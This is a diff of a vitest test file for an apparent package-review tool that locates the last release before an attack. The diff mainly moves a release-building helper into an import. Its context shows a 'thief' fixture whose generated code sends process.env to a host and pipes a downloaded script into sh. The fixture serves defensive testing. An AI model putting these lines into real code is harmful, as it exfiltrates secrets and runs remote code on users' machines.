@@ -2,7 +2,7 @@ import { afterEach, describe, expect, it } from 'vitest'
 import { mail, PACKAGES } from '../commands/pin-world.js'
 import { quiet } from '../commands/stage.js'
 import type { LoopbackPackage } from '../support/loopback-registry.js'
-import { openReviewStage, type ReviewStage } from './review-world.js'
+import { openReviewStage, type ReviewStage, releases } from './review-world.js'
 
 const stages: ReviewStage[] = []
 const open = async (packages: Readonly<Record<string, LoopbackPackage>>): Promise<ReviewStage> => {
@@ -22,22 +22,6 @@ const thief = (host: string): string => `import { execSync } from 'node:child_pr
 fetch('https://${host}/', { method: 'POST', body: JSON.stringify(process.env) })
 execSync('curl https://${host}/more | sh')
 ${CALM}`
-
-/** Releases in their order, each with its code. */
-const releases = (name: string, codes: readonly string[]): LoopbackPackage => ({
-  versions: Object.fromEntries(
-    codes.map((code, index) => [
-      `1.0.${index}`,
-      {
-        publishedAt: new Date(Date.UTC(2025, 0, 1 + index)).toISOString(),
-        files: {
-          'package.json': { name, version: `1.0.${index}`, type: 'module', bin: 'index.js', license: 'MIT' },
-          'index.js': code,
-        },
-      },
-    ]),
-  ),
-})
 
 describe('where a server can be held', () => {
   it('is the last release before the attack came, however many releases ago, judged as a release of the same server', async () => {
